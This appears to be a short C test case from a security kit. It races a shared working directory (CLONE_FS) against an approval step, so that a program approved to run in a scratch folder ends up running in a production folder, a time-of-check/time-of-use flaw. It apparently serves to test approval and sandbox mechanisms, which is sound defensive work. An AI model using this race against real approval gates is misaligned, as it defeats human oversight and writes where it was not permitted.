// tries: to have a person approve a program in one folder, and to have it run in another
// works: a process that shares its folder (CLONE_FS) can lead another elsewhere while that is stopped
// see: clone(2) CLONE_FS; CWE-367
// first: mkdir -p "$WORK/asked" "$WORK/scratch" "$WORK/prod"; chmod 777 "$WORK/asked" "$WORK/scratch" "$WORK/prod";
//   printf '#!/usr/bin/bash\ntouch "$1"\n' >"$WORK/asked/program"; chmod 755 "$WORK/asked/program"; . "$KIT/attacks/approver.sh"; meanwhile approve_all "\"folder\":\"$WORK/scratch\""
// watch: $WORK/prod/deployed
// goal: change
#include "../kit.h"

int main(void)
{
	const char *scratch = join(env("WORK"), "/scratch"), *prod = join(env("WORK"), "/prod");
	const char *program = join(env("WORK"), "/asked/program");
	char *const words[] = { "program", "deployed", NULL };
	time_t end = time(NULL) + 8;

	while (time(NULL) < end) {
		pid_t child;

		MUST(chdir(scratch));
		child = MUST(syscall(SYS_clone, CLONE_FS | SIGCHLD, NULL, NULL, NULL, NULL));
		if (!child) {
			execv(program, words);
			perror("exec");
			_exit(127);
		}
		for (int turn = 0; !waitpid(child, NULL, WNOHANG); turn++) {
			usleep(rand() % 30000);
			MUST(chdir(turn % 2 ? scratch : prod));
		}
	}
	return 0;
}
